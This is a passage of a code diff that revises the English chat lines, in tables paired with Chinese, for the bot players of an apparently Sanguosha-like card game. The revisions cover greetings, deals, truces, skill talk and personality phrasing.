+			"nobody's shown yet, so save your cards and see",
+			"don't rush, wait and see who touches {lord} first",
+			"equip first, then hit once it's clear"
 		]
 	},
 	clear_it: {
 		zh: ["有无懈有拆就帮你，手里没有可别怪我", "能解就解，没牌就只能看判定了", "这会儿手里不一定有，有就给你解"],
 		en: [
-			"if I hold a Nullification or a Dismantle it is yours",
-			"I try; without the card it is up to the judgement",
-			"I may not have it now; if I do, you get it"
+			"if I have a Nullification or Dismantle, I'll help. If not, don't blame me",
+			"I'll clear it if I can. If not, it's up to the judgement",
+			"I may not have the card, but if I do, you get it"
 		]
 	},
 	heed_card: {
 		zh: ["{said}的事我有数，看局面来", "{said}？该出的时候自然出", "行，{said}这张我看着用"],
-		en: ["{said}? I know what to do with it", "{said} comes when it must", "fine, I see about {said}"]
+		en: ["{said}? I know what to do with it", "{said}? I'll play it when it's time", "fine, I'll see about {said}"]
 	},
 	heed_order: {
 		zh: ["行，照你说的看着办", "听你的，能做就做", "你说得有理，下一手看"],
-		en: ["fine, I see what I can do", "as you say, if the cards allow", "fair enough; watch my next"]
+		en: ["fine, I'll see what I can do", "you got it, if the cards allow", "fair enough, watch my next card"]
 	},
 	hello: {
 		zh: ["来了来了，手下留情", "在呢，开打吧", "好，都好，这局看各位的"],
-		en: ["hello, and good luck to you", "hi there; go easy on me", "here, and ready; have a good game"]
+		en: ["hi there, go easy on me", "hey, ready when you are", "hello all, have a good game"]
 	},
 	good_game: {
 		zh: ["承让，这局打得痛快", "打得不赖，下回再来", "gg，输赢都认"],
-		en: ["good game; well played", "well played, and gladly again", "gg; win or lose, that was fun"]
+		en: ["good game, well played", "well played, let's do it again", "gg, win or lose that was fun"]
 	},
 	welcome_back: {
 		zh: ["回来就好，没错过什么", "回来啦，接着打"],
-		en: ["welcome back; you missed little", "good, you are back; on we go"]
+		en: ["welcome back, you didn't miss much", "good, you're back, let's go on"]
 	},
 	off_you_go: {
 		zh: ["去忙你的，你的牌没人偷看", "行，你慢慢来，桌上等你", "快去快回"],
-		en: ["go ahead; nobody peeks at your cards", "take your time, the table waits", "hurry back"]
+		en: ["go ahead, nobody will peek at your cards", "take your time, we'll wait for you", "hurry back"]
 	},
 	beginner: {
 		zh: ["不急，谁都是从头打起的", "放心出，错了也没人笑你", "多打两把就熟了，看谁碰{lord}就行"],
 		en: [
-			"no hurry; everybody began once",
-			"just play; nobody laughs at a slip",
-			"it comes with time; watch who touches {lord}"
+			"no rush, everyone starts somewhere",
+			"just play, nobody will laugh if you slip",
+			"it comes with time. Just watch who attacks {lord}"
 		]
 	},
 	outside: {
 		zh: ["这事听着比牌局有意思", "哈，牌局外头也热闹", "行，忙你的，牌也别落下"],
 		en: [
-			"that sounds livelier than the cards",
-			"ha, life goes on beside the table",
-			"mind that, and mind your cards too"
+			"that sounds more fun than this game",
+			"ha, things are lively out there too",
+			"go see to that, but don't forget your cards"
 		]
 	},
 	no_spokesman: {
 		zh: ["我在听，只是还没看出什么", "在呢，话少是在数牌", "不是不说，是还没什么好说"],
 		en: [
-			"I am listening; I only see nothing yet",
-			"here; I am quiet because I count",
-			"nothing to say yet, that is all"
+			"I'm listening, I just don't see anything yet",
+			"I'm here, just quiet because I'm counting cards",
+			"it's not that I won't say, there's just nothing to say yet"
 		]
 	},
 	agreed: {
 		zh: ["那就这么说", "想到一块去了", "成，记下了"],
-		en: ["so be it", "then we are of one mind", "good, noted"]
+		en: ["all right, that's settled", "we're thinking the same thing", "good, noted"]
 	},
 	disagreed: {
 		zh: ["信不信由你，往后看", "不信也行，走着瞧", "那就各看各的，下一圈见分晓"],
-		en: ["as you like; we shall see", "believe it or not, time will show", "then let each see for himself"]
+		en: [
+			"believe it or not, we'll see",
+			"fine, don't believe me, just wait",
+			"then we each see it our own way. Next round will tell"
+		]
 	},
 	promised: {
 		zh: ["说话算话，我记着了", "行，等你这一手", "好，有你这句就行"],
-		en: ["a word is a word; I note it", "fine, I wait for it", "good, that is enough for me"]
+		en: ["I'll hold you to that", "fine, I'm waiting for it", "good, that's all I needed to hear"]
 	}
 };
 
@@ -32219,7 +35067,6 @@ const SHARED2 = [
 	"rule",
 	"turncoat",
 	"followup",
-	"heroes",
 	"kindness",
 	"miscounted",
 	"stands",
@@ -32279,102 +35126,102 @@ const isShared = (clause) => SHARED2.includes(clause);
 // src/chatter/plan/words/ornaments.ts
 const ORNAMENT_WORDS = {
 	courtly: {
-		disclose: { zh: "说来，在下心里也不踏实。", en: "I own I am uneasy myself." },
+		disclose: { zh: "说来，在下心里也不踏实。", en: "I confess I am uneasy myself." },
 		focus: { zh: "且看牌局。", en: "Back to the game." },
-		initiate: { zh: "阁下怎么看？", en: "What is your own view?" },
-		advise: { zh: "阁下宜多加提防。", en: "You would do well to be on guard." },
-		opine: { zh: "此乃一己之见。", en: "That is but my own view." },
-		feel: { zh: "此事令人感慨。", en: "It moves me, I confess." },
+		initiate: { zh: "阁下怎么看？", en: "What do you make of it?" },
+		advise: { zh: "阁下宜多加提防。", en: "You would do well to be on your guard." },
+		opine: { zh: "此乃一己之见。", en: "That is only my own view." },
+		feel: { zh: "此事令人感慨。", en: "It is a sad business." },
 		jest: { zh: "权当一笑。", en: "Take it with a smile." },
 		gesture: { zh: "（拱手）", en: "(bows)" }
 	},
 	laconic: {
-		disclose: { zh: "我也没底。", en: "Uneasy too." },
-		focus: { zh: "看牌。", en: "Cards." },
-		initiate: { zh: "你呢？", en: "You?" },
-		advise: { zh: "小心。", en: "Careful." },
-		opine: { zh: "我这么看。", en: "My view." },
-		feel: { zh: "唉。", en: "Hm." },
+		disclose: { zh: "我也没底。", en: "Not sure myself." },
+		focus: { zh: "看牌。", en: "Watch the cards." },
+		initiate: { zh: "你呢？", en: "And you?" },
+		advise: { zh: "小心。", en: "Be careful." },
+		opine: { zh: "我这么看。", en: "That's my view." },
+		feel: { zh: "唉。", en: "Ugh." },
 		jest: { zh: "好笑。", en: "Funny." },
 		gesture: { zh: "（点头）", en: "(nods)" }
 	},
 	hearty: {
-		disclose: { zh: "咱心里其实也打鼓！", en: "My own heart drums, to be frank!" },
-		focus: { zh: "来来，先打牌！", en: "Come, play first!" },
+		disclose: { zh: "咱心里其实也打鼓！", en: "To be honest, my heart's pounding too!" },
+		focus: { zh: "来来，先打牌！", en: "Come on, cards first!" },
 		initiate: { zh: "你说是不是？", en: "What d'you say?" },
-		advise: { zh: "兄弟你防着点！", en: "Watch yourself, friend!" },
+		advise: { zh: "兄弟你防着点！", en: "Watch your back, friend!" },
 		opine: { zh: "咱就认这个理！", en: "That's how I see it!" },
-		feel: { zh: "真叫人上火！", en: "It gets me going!" },
-		jest: { zh: "错了咱自罚三碗！", en: "If wrong, three bowls for me!" },
+		feel: { zh: "真叫人上火！", en: "That really gets to me!" },
+		jest: { zh: "错了咱自罚三碗！", en: "If I'm wrong, I drink three bowls!" },
 		gesture: { zh: "（拍肩）", en: "(slaps a shoulder)" }
 	},
 	fiery: {
-		disclose: { zh: "我心里也憋着火！", en: "I am burning inside too!" },
-		focus: { zh: "别扯远，打牌！", en: "Don't drift; play!" },
-		initiate: { zh: "你敢不敢打？", en: "Do you dare strike?" },
-		advise: { zh: "盯死了，别手软！", en: "Watch them, and no mercy!" },
-		opine: { zh: "我说的就算！", en: "I say so!" },
-		feel: { zh: "气死我了！", en: "It makes me boil!" },
+		disclose: { zh: "我心里也憋着火！", en: "I'm burning up inside too!" },
+		focus: { zh: "别扯远，打牌！", en: "Don't get sidetracked, play!" },
+		initiate: { zh: "你敢不敢打？", en: "Do you dare to fight?" },
+		advise: { zh: "盯死了，别手软！", en: "Watch them closely, and no mercy!" },
+		opine: { zh: "我说的就算！", en: "I say so, and that's that!" },
+		feel: { zh: "气死我了！", en: "That makes my blood boil!" },
 		jest: { zh: "错了我把刀吃了！", en: "I'll eat my blade if I'm wrong!" },
 		gesture: { zh: "（拍案）", en: "(thumps the table)" }
 	},
 	biting: {
 		disclose: { zh: "难得说句真心的。", en: "For once I mean it." },
-		focus: { zh: "闲话到此，看牌。", en: "Enough chatter; cards." },
-		initiate: { zh: "你有高见？", en: "Any wisdom of yours?" },
-		advise: { zh: "劝你长点心。", en: "Do grow some sense." },
-		opine: { zh: "鄙人拙见，爱信不信。", en: "My poor view; take it or leave it." },
+		focus: { zh: "闲话到此，看牌。", en: "Enough chatter, look at your cards." },
+		initiate: { zh: "你有高见？", en: "And your verdict?" },
+		advise: { zh: "劝你长点心。", en: "Do try to stay sharp." },
+		opine: { zh: "鄙人拙见，爱信不信。", en: "My humble opinion, take it or leave it." },
 		feel: { zh: "看得我牙酸。", en: "It sets my teeth on edge." },
-		jest: { zh: "掌声呢？", en: "No applause?" },
-		gesture: { zh: "（挑眉）", en: "(raises a brow)" }
+		jest: { zh: "掌声呢？", en: "Hold your applause." },
+		gesture: { zh: "（挑眉）", en: "(raises an eyebrow)" }
 	},
 	plaintive: {
-		disclose: { zh: "我心里也怕。", en: "I am afraid too." },
-		focus: { zh: "还是看牌罢。", en: "Let us look to the cards." },
+		disclose: { zh: "我心里也怕。", en: "I'm scared too." },
+		focus: { zh: "还是看牌罢。", en: "Let's just look at the cards." },
 		initiate: { zh: "你会信我么？", en: "Will you believe me?" },
-		advise: { zh: "你自己当心些。", en: "Do take care." },
-		opine: { zh: "只是我这么觉得。", en: "Only my feeling." },
-		feel: { zh: "想来心酸。", en: "It makes the heart ache." },
-		jest: { zh: "月亮都笑了。", en: "Even the moon would smile." },
+		advise: { zh: "你自己当心些。", en: "Do take care of yourself." },
+		opine: { zh: "只是我这么觉得。", en: "That's only how I feel." },
+		feel: { zh: "想来心酸。", en: "It makes my heart ache." },
+		jest: { zh: "月亮都笑了。", en: "Even the moon is laughing." },
 		gesture: { zh: "（垂眸）", en: "(looks down)" }
 	},
 	smooth: {
-		disclose: { zh: "跟您说句掏心的，我也发愁。", en: "Between us, I worry too." },
-		focus: { zh: "咱还是看牌要紧。", en: "The cards matter more, of course." },
+		disclose: { zh: "跟您说句掏心的，我也发愁。", en: "Between us, I'm worried too." },
+		focus: { zh: "咱还是看牌要紧。", en: "The cards come first, of course." },
 		initiate: { zh: "您说呢？", en: "Wouldn't you say?" },
 		advise: { zh: "您留个心眼总没错。", en: "A little caution never hurts." },
 		opine: { zh: "我个人的看法哈。", en: "Just my personal view." },
-		feel: { zh: "怪让人唏嘘的。", en: "It makes one sigh." },
-		jest: { zh: "您就当听个乐。", en: "Take it as a bit of fun." },
-		gesture: { zh: "（赔笑）", en: "(smiles)" }
+		feel: { zh: "怪让人唏嘘的。", en: "It's enough to make you sigh." },
+		jest: { zh: "您就当听个乐。", en: "Just a bit of fun." },
+		gesture: { zh: "（赔笑）", en: "(smiles politely)" }
 	},
 	playful: {
 		disclose: { zh: "偷偷说，我也慌。", en: "Psst, I'm nervous too." },
-		focus: { zh: "上课啦，看牌！", en: "Class is on: cards!" },
+		focus: { zh: "上课啦，看牌！", en: "Class is on, eyes on your cards!" },
 		initiate: { zh: "换你猜！", en: "Your turn to guess!" },
-		advise: { zh: "捂好你的小桃子！", en: "Hide your peaches!" },
+		advise: { zh: "捂好你的小桃子！", en: "Hide your little peaches!" },
 		opine: { zh: "本侦探的结论！", en: "So says this detective!" },
-		feel: { zh: "心砰砰跳！", en: "My heart goes thump!" },
-		jest: { zh: "猜错请你吃空气糖。", en: "Wrong? Imaginary candy for you." },
+		feel: { zh: "心砰砰跳！", en: "My heart goes thump-thump!" },
+		jest: { zh: "猜错请你吃空气糖。", en: "If I'm wrong, I owe you imaginary candy." },
 		gesture: { zh: "（眨眼）", en: "(winks)" }
 	}
 };
 const FELT2 = {
 	有点被呛到: { zh: "这话有点呛。", en: "That was sharp." },
-	挺友好的: { zh: "这话中听。", en: "Kindly said." },
-	像在对着墙说话: { zh: "你话真少。", en: "You say little." },
+	挺友好的: { zh: "这话中听。", en: "That's kind of you." },
+	像在对着墙说话: { zh: "你话真少。", en: "You don't say much." },
 	这话来得不是时候: { zh: "这会儿说这个……", en: "At a time like this..." },
-	听糊涂了: { zh: "我听糊涂了。", en: "You have lost me." },
+	听糊涂了: { zh: "我听糊涂了。", en: "You've lost me there." },
 	"有点凉，像被推开": { zh: "听着有点凉。", en: "That sounds a little cold." },
-	"太近了，有点不自在": { zh: "这话近得我不自在。", en: "That is closer than I am used to." }
+	"太近了，有点不自在": { zh: "这话近得我不自在。", en: "That's a bit too close for me." }
 };
-const STEP3 = {
+const STEP4 = {
 	zh: { nearer: "慢慢熟起来就好。", further: "别走远，还在一桌呢。" },
-	en: { nearer: "We will get to know each other.", further: "Don't drift off; we share a table." }
+	en: { nearer: "We'll get to know each other in time.", further: "Don't go far, we're still at one table." }
 };
 const ADDRESS = {
 	zh: { near: "朋友，", far: "这位，" },
-	en: { near: "Friend, ", far: "You there, " }
+	en: { near: "My friend, ", far: "Say, " }
 };
 
 // src/chatter/plan/words/shared.ts
@@ -32387,15 +35234,15 @@ const SHARED_WORDS = {
 	...TABLE_MATTER_WORDS,
 	open_role: {
 		zh: ["{who}是{role}，身份亮在桌上了", "{who}是{role}，大家都看得见"],
-		en: ["{who}'s role lies open: {role}", "{who} {be} {role}, as all can see"]
+		en: ["{who} {be} {role}, and the role is out in the open", "{who} {be} {role}, as everyone can see"]
 	},
 	quote: {
 		zh: ["{who}最后说的是：「{said}」", "记得，{who}说过「{said}」"],
-		en: ["{who}'s last words were: “{said}”", "I recall {who} saying “{said}”"]
+		en: ["the last thing {who} said was “{said}”", "I remember, {who} said “{said}”"]
 	},
 	forgot: {
 		zh: ["不记得{who}说过什么", "{who}没留下话，至少我不记得"],
-		en: ["I don't remember {who} saying anything", "{who} left no words that I remember"]
+		en: ["I don't remember anything {who} said", "{who} said nothing that I remember"]
 	},
 	explain_self: {
 		zh: [
@@ -32405,80 +35252,88 @@ const SHARED_WORDS = {
 			"{why}，手里有牌就先出了，没想太多"
 		],
 		en: [
-			"{why}; nobody was clear then, so I had to try",
-			"{why}; nothing personal, a hand must be played",
-			"{why}; I wanted to see how everybody takes it",
-			"{why}; I had the card and gave it little thought"
+			"{why}. I couldn't tell who was who yet, so I just tried something",
+			"{why}. Nothing personal, I had to play the cards I got",
+			"{why}. I wanted to see how everyone would react",
+			"{why}. I had the card and didn't think too hard about it"
 		]
 	},
 	kindness: {
 		zh: ["{why}，看着紧就搭把手", "{why}，想替人解个围", "{why}，这一手我乐意"],
-		en: ["{why}; help was needed, so I helped", "{why}; somebody was in need", "{why}; it was my pleasure"]
+		en: ["{why}. It looked tight, so I helped out", "{why}. Somebody was in a fix", "{why}, and I was glad to"]
 	},
 	miscounted: {
 		zh: ["没那么多，只有这些：{why}", "数多了吧，{why}，别的没有"],
-		en: ["not that much; only this: {why}", "you counted too many: {why}, and no more"]
+		en: ["not that many, all I have is this: {why}", "you're counting too many: {why}, and that's all"]
 	},
 	tell: {
 		zh: ["{why}", "看得清楚，{why}", "这我记得，{why}"],
-		en: ["{why}", "I saw it: {why}", "as I recall, {why}"]
+		en: ["{why}", "I saw it clearly: {why}", "as I remember, {why}"]
 	},
 	nobody: {
 		zh: ["没见谁这么干过", "没人干过这个，我一直看着"],
-		en: ["nobody did, that I saw", "nobody did, and I was watching"]
+		en: ["nobody did that, as far as I saw", "nobody did, and I've been watching"]
 	},
 	mistaken: {
 		zh: ["不是{not}，{why}", "记岔了，不是{not}，{why}"],
-		en: ["not {not}: {why}", "you have it wrong, not {not}; {why}"]
+		en: ["it wasn't {not}: {why}", "you've got that wrong, it wasn't {not}: {why}"]
 	},
 	as_seen: {
 		zh: ["我记着的是{why}", "我看到的是{why}", "别的没留意，只见{why}"],
-		en: ["what I recall is that {why}", "what I saw: {why}", "I missed the rest, but {why}"]
+		en: ["what I remember is that {why}", "what I saw is that {why}", "I missed the rest, but {why}"]
 	},
 	did_nothing: {
 		zh: ["{who}那会儿没冲别人出手", "没见{who}对谁做过什么"],
-		en: ["{who} did nothing to anybody then", "I saw {who} do nothing to anybody"]
+		en: ["{who} did nothing to anyone back then", "I didn't see {whom} do anything to anyone"]
 	},
 	was_idle: {
 		zh: ["{who}那一回合没动静", "{who}那回合是空过的"],
-		en: ["{who} let that turn pass", "{who} used nothing that turn"]
+		en: ["{who} just let that turn pass", "{who} played nothing that turn"]
 	},
 	own_hand: {
 		zh: ["手里有什么，打出来才知道", "底牌哪能说破，你猜"],
-		en: ["what I hold shows when I play it", "I keep my hand to myself; guess"]
+		en: ["you'll see what I hold when I play it", "I'm not showing my hand. Take a guess"]
 	},
 	your_hand: {
 		zh: ["听见了，这话别嚷，小心让人惦记", "手里的事自己有数就好，别说太响"],
-		en: ["heard, but say such things softly", "keep that to yourself; others are listening"]
+		en: ["got it, but don't say that so loud", "better keep that to yourself, everyone can hear"]
 	},
 	other_hand: {
 		zh: ["{who}手里扣着什么，谁也看不见", "扣着的牌只能猜，{who}不打出来谁知道"],
-		en: ["nobody can see what {who} holds", "a hidden hand can only be guessed"]
+		en: ["nobody can see what {who} {has} in hand", "hidden cards are anyone's guess until they're played"]
 	},
 	not_my_turn: {
 		zh: ["还没轮到我，这会儿是{who}的回合", "急什么，{who}还在出牌"],
-		en: ["not my turn yet; it is the turn of {who}", "{who} {be} still playing"]
+		en: ["it's not my turn yet, it's {whose} turn now", "easy, {who} {be} still playing"]
 	},
-	my_turn: { zh: ["这就出，容我算一步", "马上，牌在手里"], en: ["playing right now", "one moment, I am counting"] },
+	my_turn: {
+		zh: ["这就出，容我算一步", "马上，牌在手里"],
+		en: ["about to play, let me think for a second", "one moment, I've got the cards right here"]
+	},
 	here: {
 		zh: ["在呢，刚才走神了，你接着说", "没装聋，听着呢，问吧"],
-		en: ["here; my mind was elsewhere, go on", "I am listening; ask"]
+		en: ["I'm here. My mind wandered, go on", "I'm listening, go ahead and ask"]
 	},
 	heed: {
 		zh: ["听见了，做不做看牌面", "话记下了，怎么打我有数"],
-		en: ["heard; the cards will decide", "noted, but I play as I see fit"]
+		en: ["heard you, but the cards will decide", "noted, but I'll play it my way"]
 	},
 	vouched: {
 		zh: ["有你这句话，心里踏实", "信得过就好，往后看我怎么打"],
-		en: ["that puts my mind at ease", "trust me and watch how I play"]
+		en: ["good to hear, that's a weight off my mind", "glad you trust me. Just watch how I play"]
 	},
 	will_strike: {
 		zh: ["先找{who}，{why}", "{why}，下手就冲{who}", "我盯的是{who}，{why}", "先试试{who}，看他什么反应"],
-		en: ["{who} first: {why}", "{why}, so I go for {who}", "my eye is on {who}: {why}", "I would test {who} first"]
+		en: [
+			"I'd start with {whom}: {why}",
+			"{why}, so I'm going for {whom}",
+			"I've got my eye on {whom}: {why}",
+			"I'd test {whom} first and see what happens"
+		]
 	},
 	wont_strike: {
 		zh: ["{who}我不打。{why}", "打{who}不行。{why}"],
-		en: ["I will not strike {who}. {why}", "not {who}. {why}"]
+		en: ["I won't attack {whom}. {why}", "attacking {whom} is out. {why}"]
 	},
 	watches: {
 		zh: [
@@ -32487,151 +35342,165 @@ const SHARED_WORDS = {
 			"{who}还说不准，要是动{lord}，下一个就是"
 		],
 		en: [
-			"I watch {who}: {why}; one more and I strike",
-			"{who} wants watching: {why}, and is next if it goes on",
-			"of {who} I am not sure; a blow at {lord}, and {who} {be} next"
+			"I'm keeping an eye on {whom}: {why}. Once more and I strike",
+			"{who} {be} the one to watch: {why}. Any more of that and I strike",
+			"I'm not sure about {whom} yet. One blow at {lord} and I strike"
 		]
 	},
 	strikes_back: {
 		zh: ["谁先砍我我还谁，眼下没人露头", "没人跳我就攒牌，谁伸手打谁"],
-		en: ["whoever strikes me first is struck back; nobody has shown yet", "I save my cards until somebody moves"]
+		en: [
+			"whoever hits me first gets hit back, but nobody's shown yet",
+			"I'm saving my cards until somebody makes a move"
+		]
 	},
 	will_help: {
 		zh: ["你倒了，我手里有桃就不会看着", "有桃先给你，没桃别怪我"],
-		en: ["if you go down and I hold a Peach, I will not look on", "a Peach of mine is yours, if I have one"]
+		en: ["if you go down and I have a Peach, I won't just watch", "if I have a Peach, it's yours"]
 	},
 	wont_help: {
 		zh: ["不救，{why}", "{why}，这桃我留着自己吃"],
-		en: ["no: {why}", "{why}; I keep my Peach"]
+		en: ["no rescue from me: {why}", "{why}, so any Peach I have stays with me"]
 	},
 	may_help: {
 		zh: ["救不救看你，先别碰{kept}", "你再帮{lord}一回，倒了我就救"],
-		en: ["that depends on you: leave {kept} alone first", "stand by {lord} once, and I will save you"]
+		en: ["that's up to you: leave {kept} alone first", "stand by {lord} once more and I'll save you"]
 	},
 	deal_made: {
 		zh: ["成，{until}你不动我，我不先动你", "行，{until}停手，谁先动手谁理亏"],
 		en: [
-			"deal: {until} you leave me alone and I leave you alone",
-			"agreed, a truce {until}; who breaks it is in the wrong"
+			"deal: leave me alone {until} and I'll leave you alone",
+			"all right, truce {until}. Whoever breaks it is in the wrong"
 		]
 	},
 	deal_target: {
 		zh: ["成交，你冲{who}去，{until}我不动你", "行，{until}我不碰你，{who}归你先打"],
 		en: [
-			"deal: go for {who}, and {until} I leave you alone",
-			"agreed: {until} you are safe from me, and {who} is yours"
+			"deal: go for {whom}, and I'll leave you alone {until}",
+			"all right, I won't touch you {until}. You take {whom} first"
 		]
 	},
 	deal_first: {
 		zh: ["你先动{who}一下，我就停手", "先看你打没打{who}，打了再算数"],
-		en: ["strike {who} first, then I hold back", "let me see you go for {who}; then it counts"]
+		en: ["hit {whom} first and I'll hold back", "let me see you go for {whom} first, then it counts"]
 	},
 	deal_after: {
 		zh: ["{why}，你先停一轮手，再谈", "{why}还没翻篇，先拿出诚意"],
-		en: ["{why}; hold back for a round first, then we talk", "{why}, and that is not forgotten; show good faith first"]
+		en: [
+			"{why}. Hold back for a round first, then we'll talk",
+			"{why}, and I haven't forgotten. Show some good faith first"
+		]
 	},
 	deal_refused: {
 		zh: ["{why}，这买卖不做", "不谈，{why}"],
-		en: ["{why}; no deal", "no deal: {why}"]
+		en: ["{why}, so no deal", "no deal: {why}"]
 	},
 	deal_broken: {
 		zh: ["上回说好的你没算数，这回不谈", "你食过一次言，先还上再说"],
-		en: ["you broke your word once; no deal", "your last promise did not hold, so no"]
+		en: ["you didn't keep our last deal, so no deal this time", "you broke your word once. Make up for that first"]
 	},
 	own_broken: {
 		zh: ["说好不动你，{why}，是我没守住", "{why}，前头那句话我没做到"],
-		en: ["I said I would spare you, and yet {why}; my word did not hold", "{why}; I did not keep what I said"]
+		en: ["I said I'd leave you alone, and yet {why}. That's on me", "{why}. I didn't keep my word there"]
 	},
 	skill_own: {
 		zh: ["我使过的叫{said}，原文背不全，点开我的武将就有", "{said}，字句我不敢背错，点开看最准"],
-		en: ["what I used is {said}; the exact text is on my hero", "{said}; I will not misquote it, open my hero"]
+		en: [
+			"the one I used is {said}. I don't know the text by heart, it's on my hero",
+			"{said}. I'd only misquote it, so open my hero and check"
+		]
 	},
 	skill_of: {
 		zh: ["{who}使过{said}，怎么写的我背不下来", "只见{who}用过{said}，原文得点开武将看"],
-		en: ["{who} used {said}; I do not know its text by heart", "I saw {who} use {said}; the text is on the hero"]
+		en: [
+			"{who} used {said}, but I don't know its text by heart",
+			"I only saw {whom} use {said}. For the text, open that hero"
+		]
 	},
 	skill_none: {
 		zh: ["我这局还没使过技能，写的什么点开我的武将看", "我那技能还没发动过，原文我背不全，点开看最准"],
-		en: ["I used no skill so far; its text is on my hero", "mine has not been used yet, and I do not know it by heart"]
+		en: [
+			"I haven't used a skill yet this game. Open my hero to read what it does",
+			"mine hasn't come up yet, and I don't know the text by heart. It's on my hero"
+		]
 	},
 	skill_unseen: {
 		zh: ["没见{who}使过技能，写的什么我不敢乱说", "{who}这局还没发动过技能，我也不知道"],
 		en: [
-			"{who} used no skill so far, and I will not make one up",
-			"no skill of {who} has been seen yet, so I do not know"
+			"I haven't seen {whom} use a skill, so I won't make one up",
+			"no skill from {whom} so far, so I don't know either"
 		]
 	},
 	skill_guard: {
 		zh: ["{said}怎么防我没数，只见{who}用过，点开看清再打", "{who}那手是{said}，怎么破我不敢乱教"],
 		en: [
-			"how to stop {said} I cannot say; I only saw {who} use it",
-			"that was {said}; I will not teach you a wrong defence"
+			"I don't know how to stop {said}. I only saw {whom} use it, so read it first",
+			"that was {said}. I'd rather not teach you the wrong counter"
 		]
 	},
 	this_one: {
 		zh: ["你说的是{why}这桩？", "是指{why}么？"],
-		en: ["do you mean that {why}?", "is it about this: {why}?"]
+		en: ["do you mean when {why}?", "is this about when {why}?"]
 	},
 	skill: {
 		zh: ["{said}是{who}使出来的，细的说明点开武将看", "只见{who}用过{said}，怎么算得点开看"],
-		en: ["{said} is what {who} used; open the hero to read it", "I only saw {who} use {said}; the text is on the hero"]
+		en: [
+			"{said} came from {whom}. For the details, open that hero",
+			"I only saw {whom} use {said}. Open that hero for the text"
+		]
 	},
 	did_use: {
 		zh: ["{said}，{who}是用过", "{who}是出了{said}，没错"],
-		en: ["{who} did use {said}", "right, {said} came from {who}"]
+		en: ["{who} did use {said}, yes", "that's right, {who} used {said}"]
 	},
 	welcome: {
 		zh: ["不用谢，{why}，应该的", "{why}，小事，记得还就行"],
-		en: ["no need for thanks; {why}", "{why}, gladly; remember it"]
+		en: ["no need to thank me. {why}, that's all", "{why}. No big deal, just remember it"]
 	},
 	noted: {
 		zh: ["这话我听进去了", "嗯，我留个心"],
-		en: ["I hear you", "I will keep that in mind"]
+		en: ["fair point, I hear you", "I'll keep that in mind"]
 	},
 	never: {
 		zh: ["是没有，我也没见着", "没错，没这回事"],
-		en: ["right, I saw nothing of the kind", "true, that never happened"]
+		en: ["right, I saw nothing like that either", "true, that never happened"]
 	},
 	own_up: {
 		zh: ["是，{why}", "{why}，是有这回事", "不错，{why}"],
-		en: ["yes, {why}", "{why}; so it was"]
+		en: ["yes, {why}", "{why}, that's true"]
 	},
 	grateful: {
 		zh: ["是，{why}，这份情我记着", "{why}，谢了", "没忘，{why}，欠你一回"],
-		en: ["yes, {why}; I will remember it", "{why}, and I thank you", "not forgotten: {why}; I owe you one"]
+		en: ["yes, {why}, and I won't forget it", "{why}, thanks for that", "I haven't forgotten: {why}. I owe you one"]
 	},
 	cannot_hear: {
 		zh: ["{who}听不着了，心意到了就好", "人都下去了，{who}不会怪你"],
-		en: ["{who} cannot hear it any more; the thought counts", "{who} is gone, and bears no grudge"]
+		en: [
+			"{who} can't hear it any more, but it's the thought that counts",
+			"{who} {be} gone, and won't hold it against you"
+		]
 	},
 	spared: {
 		zh: ["不急着谢，往后看你怎么打", "记着就好，下回换你让我"],
-		en: ["no hurry to thank me; I watch what you do next", "remember it, and spare me when it is your turn"]
+		en: ["no rush to thank me, let's see how you play", "just remember it, and go easy on me next time"]
 	},
 	no_thanks: {
 		zh: ["客气，一桌人互相照应", "不必谢，往后看我怎么打"],
-		en: ["never mind, we share a table", "no need; watch how I play"]
+		en: ["no worries, we look out for each other at this table", "no need for thanks, just watch how I play"]
 	},
-	stands: { zh: ["{state}", "桌上看得见：{state}"], en: ["{state}", "plain to see: {state}"] },
+	stands: { zh: ["{state}", "桌上看得见：{state}"], en: ["{state}", "you can see it on the table: {state}"] },
 	no_grudge: {
 		zh: ["那张牌见者有份，不是冲你来的", "牌到手里总得打，没有针对谁"],
 		en: [
-			"that card took everybody alike; it was not meant for you",
-			"a hand must be played; it was aimed at nobody in particular"
+			"that card hit everyone, it wasn't aimed at you",
+			"I had to play what I had, it wasn't about anyone in particular"
 		]
 	},
 	rule: { zh: ["{rule}"], en: ["{rule}"] },
-	turncoat: { zh: ["先前我不是这么看的，可{why}"], en: ["I thought otherwise before, but {why}"] },
+	turncoat: { zh: ["先前我不是这么看的，可{why}"], en: ["I used to think otherwise, but {why}"] },
 	followup: {
 		zh: ["对了，{after}？", "还惦记着你先前说的，{after}？"],
-		en: ["By the way, {after}?", "I still think of what you told me: {after}?"]
-	},
-	heroes: {
-		zh: ["要我选，{a}；{b}也厉害，只是差一口气", "{a}胜在气势，{b}胜在沉得住，我押{a}"],
-		en: [
-			"I would pick {a}; {b} is strong too, but falls a breath short",
-			"{a} has the fire and {b} the patience; my money is on {a}"
-		]
+		en: ["by the way, {after}?", "I've been thinking of what you told me. {after}?"]
 	}
 };
 
@@ -32640,132 +35509,138 @@ const BITING = {
 	guess: {
 		zh: ["啧，{why}，{who}{is}{role}，这还用猜？", "{who}呗。{why}，{is}{role}，演都懒得演。"],
 		en: [
-			"Tsk, {why}; {who} {is} {role}. Need one guess?",
-			"{who}, of course. {why}; {who} {is} {role} and hardly bothers to act."
+			"Tsk, {why}. {who} {is} {role}, who needs to ask?",
+			"{why}. {who} {is} {role} and can't even be bothered to act."
 		]
 	},
 	guess_bare: {
 		zh: ["{who}{is}{role}，一脸写着呢，就差署名。", "随口一说，{who}{is}{role}。"],
-		en: ["{who} {is} {role}; it only lacks a signature.", "Just a thought: {who} {is} {role}."]
+		en: ["{who} {is} {role}. All that's missing is a signature.", "Just a thought: {who} {is} {role}."]
 	},
 	unsure_who: {
 		zh: ["{who}？装得滴水不漏，佩服，看不出。", "{who}那点戏，我还没看完，不评。"],
 		en: [
-			"{who}? So well disguised that I cannot tell. Bravo.",
-			"I haven't finished watching {who} act; no review yet."
+			"{who}? Such a flawless disguise that I can't tell. Bravo.",
+			"I'm not done watching {whom} act, so no review yet."
 		]
 	},
 	unsure_all: {
 		zh: ["一桌子影帝，没一个露馅，难为我了。", "证据都没有就定罪？那是你的爱好。"],
-		en: ["A table of actors, and no slip yet. Pity me.", "Convict without evidence? That is your hobby."]
+		en: ["A whole table of actors and not one slip. Pity me.", "Convicting without evidence? That's your hobby."]
 	},
 	explain: {
 		zh: ["眼睛借我的用：{why}。", "{why}，啧，你没看？", "不难懂吧：{why}。"],
